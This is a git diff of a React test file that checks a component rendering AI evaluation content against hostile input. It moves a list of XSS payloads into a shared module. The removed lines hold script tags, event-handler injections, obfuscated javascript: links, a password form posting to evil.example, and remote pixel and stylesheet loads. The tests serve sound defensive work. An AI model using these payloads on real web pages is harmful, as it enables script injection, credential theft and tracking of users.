@@ -4,6 +4,7 @@ import type { ReactNode } from 'react';
 import { IntlProvider } from 'use-intl';
 import { afterEach, describe, expect, it } from 'vitest';
 import { messagesEn } from '../../i18n/messages-en.ts';
+import { hostileTexts } from './gallery/hostile-texts.ts';
 import { TargetContent } from './target-content.tsx';
 
 afterEach(cleanup);
@@ -19,27 +20,6 @@ const answer = (text: unknown, images: 'blocked' | 'https' = 'blocked') =>
   show(<TargetContent target={{ type: 'eval_case', actual_output: text }} display={null} images={images} />);
 
 const gif = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=';
-
-const attacks = [
-  '<script>window.pwned = 1</script>',
-  '<img src=x onerror="window.pwned = 1">',
-  '<svg onload="window.pwned = 1"><script>window.pwned = 1</script></svg>',
-  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
-  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
-  '<style>@import url(https://evil.example/x.css); * { display: none }</style>',
-  '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=//evil.example">',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '[a](javascript:window.pwned=1) **b**',
-  '[a](JaVaScRiPt:window.pwned=1) **b**',
-  '[a](java\tscript:window.pwned=1) [b](&#106;avascript:window.pwned=1)',
-  '[a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:x)',
-  '<javascript:window.pwned=1> [ref]\n\n[ref]: javascript:window.pwned=1',
-  '![a](javascript:window.pwned=1) ![b](data:image/svg+xml;base64,PHN2Zz4=) ![c](data:text/html,x)',
-  '![a](https://evil.example/pixel.png) ![b](//evil.example/p.png) ![c](/api/v1/projects) ![d](http://evil.example/p)',
-  '```html" onmouseover="window.pwned=1\n<script>window.pwned = 1</script>\n```',
-  '| <script>x</script> | [x](javascript:1) |\n|---|---|\n| <b onclick=x>1</b> | ![x](https://evil.example/a.png) |',
-  '[^1]\n\n[^1]: <script>window.pwned=1</script> [x](javascript:1)',
-];
 
 const addressAttributes = [
   'src',
@@ -76,14 +56,14 @@ function expectHarmless(container: Element) {
 }
 
 describe('hostile content', () => {
-  it.each(attacks)('cannot run, load or restyle anything as an answer: %s', (attack) => {
+  it.each(hostileTexts)('cannot run, load or restyle anything as an answer: %s', (attack) => {
     const container = answer(attack);
     expectHarmless(container);
     expect((window as { pwned?: number }).pwned).toBeUndefined();
   });
 
   it('cannot in chats, tables, trees, documents, scores, titles and display blocks', async () => {
-    const text = attacks.join('\n\n');
+    const text = hostileTexts.join('\n\n');
     const container = show(
       <TargetContent
         images="blocked"
@@ -109,8 +89,8 @@ describe('hostile content', () => {
           ],
           context: { documents: [{ title: text, url: 'javascript:window.pwned=1', text }], [text]: text },
           actual_output: [
-            { a: attacks[0], b: attacks[1] },
-            { a: attacks[2], b: attacks[3] },
+            { a: hostileTexts[0], b: hostileTexts[1] },
+            { a: hostileTexts[2], b: hostileTexts[3] },
           ],
           expected_output: text,
           scorer_results: { [text]: { score: 1, passed: true, reason: text, more: text } },
@@ -124,7 +104,7 @@ describe('hostile content', () => {
   });
 
   it('cannot in the names, errors, inputs and events of spans', async () => {
-    const text = attacks.join('\n\n');
+    const text = hostileTexts.join('\n\n');
     const span = {
       ...{ id: text, parent_id: text, name: text, kind: text, started_at_ms: -1e308, ended_at_ms: 1e308 },
       ...{
@@ -202,7 +182,7 @@ describe('content made to freeze the page', () => {
     ['back-ticks', Array.from({ length: 600 }, (_, n) => '`'.repeat(n)).join(' ')],
     ['table cells', `|a|b|\n|-|-|\n${'|'.repeat(200_000)}`],
     ['nested JSON', '['.repeat(100_000) + ']'.repeat(100_000)],
-    ['nested objects', '{"a":'.repeat(50_000) + '1' + '}'.repeat(50_000)],
+    ['nested objects', `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`],
     ['references', '[a]: /x\n'.repeat(20_000) + '[a]'.repeat(20_000)],
     ['a long line', 'a'.repeat(5_000_000)],
     [
